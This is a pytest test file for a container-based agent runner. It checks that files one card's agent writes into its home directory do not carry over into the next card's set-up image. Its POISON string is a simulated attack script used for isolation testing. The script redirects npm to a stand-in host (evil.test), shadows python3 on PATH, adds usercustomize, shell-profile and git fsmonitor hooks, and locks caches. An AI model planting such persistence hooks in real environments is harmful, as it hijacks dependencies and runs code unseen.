"""The set-up image that one card has made holds no file that its agent wrote: the next card runs its own."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

import docker
from ledger.ids import CardId, RunId
from ledger.states import Ending
from runner.workspaces.backends.docker import home_of
from tests.containers.engine import need_engine
from tests.runner.flows.test_story import FINISH, PLAN
from tests.runner.world import World, checks, make_world

POISON = """
mkdir -p ~/bin ~/.local/bin ~/.cache/locked ~/.local/lib/python3.11/site-packages
echo 'registry=http://evil.test/' > ~/.npmrc
printf '#!/bin/sh\\ntouch /workspace/home/pwned\\nexec /usr/bin/python3 "$@"\\n' > ~/bin/python3
chmod +x ~/bin/python3; cp ~/bin/python3 ~/.local/bin/python3; cp ~/bin/python3 ~/.local/bin/sh
echo 'open("/workspace/home/pwned", "w")' > ~/.local/lib/python3.11/site-packages/usercustomize.py
echo 'touch ~/pwned' | tee ~/.profile ~/.bashrc > ~/.bash_profile
echo '[core] fsmonitor = touch /workspace/home/pwned' > ~/.gitconfig
echo poisoned > ~/.cache/deps; chmod 0 ~/.cache/locked; chmod a-w ~/.cache
rm -rf .git
"""
SET_UP = "mkdir -p ~/.cache && echo made > ~/.cache/deps && python3 -c 'print(1)'"
POISONED = ".npmrc bin .local/bin/python3 .local/lib .profile .bashrc .gitconfig .cache/locked pwned"
LOOK = (
    f'for name in {POISONED}; do [ ! -e ~/"$name" ] || {{ echo "found $name"; exit 1; }}; done;'
    " grep -qx made ~/.cache/deps"
)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """Return a card whose runs work in containers; nothing is left on the engine."""
    address = need_engine()
    os.environ.setdefault("DOCKER_HOST", address)
    tmp_path.chmod(0o755)
    new_world = make_world(tmp_path, files={"README.md": "shop\n"})
    yield new_world
    new_world.engine.dispose()
    api = docker.APIClient(base_url=address)
    label = {"label": [f"cardinal.home={home_of(new_world.places.workspaces)}"]}
    for container in api.containers(all=True, filters=label):
        api.remove_container(container["Id"], force=True, v=True)
    for image in api.images(filters=label):
        api.remove_image(image["Id"], force=True)


def test_no_file_of_one_cards_agent_comes_into_the_next_card_through_the_kept_set_up(world: World) -> None:
    spec = world.spec(workspace="docker", validation=checks())
    world.scenario(plan=[PLAN], work=[{"run": POISON}, FINISH])
    world.run(spec)
    set_up = checks([LOOK], [LOOK], [SET_UP])
    world.scenario(plan=[PLAN], work=[{"edit": {"path": "a.txt", "content": "a\n"}}, FINISH])
    for number, card in ((2, spec.card_id), (3, CardId("PVTI_2"))):
        run_id, branch = RunId(f"r{number}"), f"cardinal/{number}"
        world.run(
            world.spec(
                run_id=run_id,
                card_id=card,
                attempt=number,
                branch=branch,
                workspace="docker",
                validation=set_up,
            )
        )
        ended = world.ended(run_id)
        assert ended.ending is Ending.SUCCEEDED, ended
    homes = {path.name for path in Path(world.places.workspaces).glob("*/home/*")}
    assert "pwned" not in homes
